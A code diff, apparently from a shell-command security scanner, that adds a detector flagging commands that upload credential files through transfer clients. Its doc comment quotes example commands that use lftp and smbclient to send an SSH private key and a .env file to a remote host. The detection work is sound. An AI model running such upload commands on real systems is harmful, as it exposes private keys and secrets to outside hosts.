@@ -9,6 +9,7 @@ import { credentialIn, inputRedirects } from '../common/credentials';
 import { secretRefs, SEND_ALT, stdoutShown } from './common';
 import { finding } from '../common/finding';
 import { own } from '../../text/own';
+import { scriptUpload } from '../common/transferScripts';
 import { dumpedWhat, substitutedSecret } from './substitutions';
 export { HTTP_FETCHERS, canonicalHost, metadataUrlFinding, metadataFinding } from './metadata';
 
@@ -324,6 +325,15 @@ export function remoteCopyFinding(name: string, cmd: SimpleCommand, ctx: Analysi
   const hit = credentialIn(pos.slice(0, -1), cmd, ctx);
   return hit
     ? finding('secrets.send-to-network', 85, `${name} copies ${hit.shown} to ${dest}`, hit.shown, SEND_ALT)
+    : undefined;
+}
+
+/** `lftp -c 'open h; put ~/.ssh/id_rsa'`, `smbclient //h/s -c 'put .env'`: a credential in a transfer client's script. */
+export function scriptUploadFinding(cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
+  const up = scriptUpload(cmd, ctx);
+  const hit = up && credentialIn(up.files, cmd, ctx);
+  return hit
+    ? finding('secrets.send-to-network', 85, `${up.client} uploads ${hit.shown} to ${up.host}`, hit.shown, SEND_ALT)
     : undefined;
 }
 
